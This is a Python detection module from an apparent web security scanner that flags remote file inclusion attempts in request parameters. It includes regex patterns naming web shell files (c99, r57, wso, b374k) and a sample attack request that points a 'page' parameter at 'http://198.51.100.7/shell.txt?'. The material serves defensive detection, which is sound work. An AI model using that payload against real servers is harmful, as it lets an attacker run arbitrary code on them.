"""Remote file inclusion: an address where the application expects a file of its own."""

import re

from nightlatch.checks.attacks.lazy_pattern import LazyPattern
from nightlatch.checks.attacks.recogniser import SENT, Found, Recogniser
from nightlatch.checks.attacks.value import Clue, Place, Value
from nightlatch.checks.check import Check, Scope
from nightlatch.exchange.judgement import Level

_URL = LazyPattern(
    r"""
    \A["'\s]{0,4}+
    (?P<scheme> https? | ftps? | smb | sftp | ssh2 )://
    (?:[^/@\s]{1,64}@)?(?P<host> \[[0-9a-f:.]+\] | [\w.\[\]-]++ )(?::\d{1,5})?
    (?P<path> (?:/[^\s?\#\0;&]*+)? )
    (?P<rest> [\s\S]*+ )\Z
    """,
    re.VERBOSE | re.IGNORECASE,
)
_IP = LazyPattern(r"\d{1,3}(?:\.\d{1,3}){3}\Z|\[|0x[0-9a-f]+\Z|\d{8,10}\Z", re.IGNORECASE)
_SOURCE = LazyPattern(
    r"\.(?:php\d?|phtml|inc|asp|aspx|jsp|jspx|cfm|cgi|pl|sh|txt|tpl|phar|dat|gif|jpe?g|png)\Z",
    re.IGNORECASE,
)
_SCRIPT = LazyPattern(r"\.(?:php\d?|phtml|inc|txt|sh|phar|tpl|asp|jsp|cgi|pl)\Z", re.IGNORECASE)
_SHELL = LazyPattern(
    r"/(?:[rc]\d{2,3}(?:shell)?|shell|cmd|backdoor|webshell|rfi\w*|c99\w*|r57\w*|evil|safe\d*"
    r"|fx29\w*|wso\d*|b374k\w*|rfiinc)\.(?:php\d?|txt|gif|jpe?g|inc|dat|sh)\Z",
    re.IGNORECASE,
)
# Parameters that name what is to be included, in scripts that were known for it.
_INCLUDING = LazyPattern(
    r"(?:^|[._\[$])(?:mosconfig_\w+|abs(?:olute)?_?path|(?:include|inc|lib|base|root|main|class|doc|cfg"
    r"|theme|skin|lang|language|plugin|module|php\w*|dir|install)_?(?:path|dir|root|file|folder)?"
    r"|document_root|file|fil|page|pg|pag|p|template|tpl|layout|path|pathtoroot|content|body|load"
    r"|include|inc|require|view|section|skin|theme|lang|module|mod|conf|config|dir|folder|style"
    r"|header|footer|globals(?:\[\w+\])*|_server(?:\[\w+\])*|_request(?:\[\w+\])*)\]?$",
    re.IGNORECASE,
)
_ADDRESSING = LazyPattern(
    r"url|uri|link|href|redirect|return|next|callback|webhook|endpoint|site|website|homepage|referr?er"
    r"|location|origin|image|img|src|avatar|photo|icon|logo|feed|target|dest|continue|to$|ref$|dl$",
    re.IGNORECASE,
)
_ENDING = LazyPattern(r"\A(?:\?+|\x00|%00|\?\x00|\#|\?(?:cmd|exec)=[\s\S]*)\s*\Z")


def recognise(text: str, value: Value) -> Clue | None:
    """What of the address says that it is to be run, not to be linked to."""
    if value.place in (Place.HEADER, Place.PATH, Place.FILE, Place.BODY, Place.TOKEN):
        return None
    url = _URL.match(text)
    if url is None:
        return None
    certainty, why = _judge(url, value.name)
    return Clue(certainty, why, text) if certainty >= 25 else None


def _judge(url: re.Match[str], name: str) -> tuple[int, str]:
    path, rest = url["path"], url["rest"]
    if path.endswith("%00"):
        path, rest = path[:-3], "\0"
    script = _SCRIPT.search(path) is not None
    including = _INCLUDING.search(name) is not None
    addressing = _ADDRESSING.search(name) is not None and not including
    if _SOURCE.search(path) and _cuts(rest):
        why = "is the address of a script, ended so that what the application appends is cut off"
        return (85 if script or including else 65) - (45 if addressing else 0), why
    if including and script and (_IP.match(url["host"]) or url["scheme"].lower() != "https"):
        far = _IP.match(url["host"]) or url["scheme"].lower() not in ("http", "https")
        why = "is the address of a script where a file is expected"
        return 75 if far or _SHELL.search(path) else 40, why
    if including and _IP.match(url["host"]):
        return 45, "is an address where a file is expected"
    if _SHELL.search(path) and script and not addressing:
        return 50, "is the address of a script that is called as shells on the web are"
    return 0, ""


def _cuts(rest: str) -> bool:
    """Does the address end so that an extension after it is no part of the path any more?"""
    return rest != "" and _ENDING.match(rest) is not None


CHECK = Check(
    id="remote-file-inclusion",
    title="A value names a script on another host",
    level=Level.HIGH,
    scope=Scope.REQUEST,
    what="""\
Reads values that are whole addresses: fails when one ends so that whatever the application appends
to it is cut off (`http://host/shell.txt?`, a zero byte), or when a script on a bare IP address or
an FTP server stands in a parameter that names a file, a page or a template. Ordinary addresses
pass, above all in parameters that are meant for one (`url`, `redirect`, `callback`); what may not
be fetched from there is the work of `server-side-request-forgery`.""",
    why="""\
An application that includes files by name, and can include them from elsewhere, runs whatever the
caller publishes: the whole server, with one request.""",
    example="""\
GET /index.php?page=http://198.51.100.7/shell.txt? HTTP/1.1
Host: www.example.com

HTTP/1.1 200 OK
""",
    remedy="""\
Choose what is included from a fixed list, never by a name that came with the request:

```python
template = {"home": "home.html", "help": "help.html"}.get(page)
if template is None:
    raise HTTPException(404)
```

In PHP, keep `allow_url_include = Off`.""",
    owasp="API8:2023",
    cwe=98,
    references=(
        "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion",
    ),
    reads=SENT,
    judge=Found("remote-file-inclusion"),
)

_SCHEMES = r"^[\"' \t]*(?:https?|s?ftps?|smb|ssh2)://"
RECOGNISER = Recogniser(
    "remote-file-inclusion",
    (
        (
            rf"{_SCHEMES}[^\s?#]+\.(?:php\d?|phtml|inc|aspx?|jspx?|cfm|cgi|pl|sh|txt|tpl|phar|dat|gif"
            r"|jpe?g|png)(?:\?+|\x00|%00|#|\?\x00|\?(?:cmd|exec)=[^\n]*)[ \t]*$"
        ),
        rf"{_SCHEMES}[^\s?#]+\.(?:php\d?|phtml|inc|txt|sh|phar|tpl|asp|jsp|cgi|pl)(?:$|\x00|%00)",
        r"^[\"' \t]*(?:s?ftps?|smb|ssh2)://",
        r"^[\"' \t]*https?://(?:[^@/\s]{1,64}@)?(?:\d+[./:]|\[)",
    ),
    recognise,
)
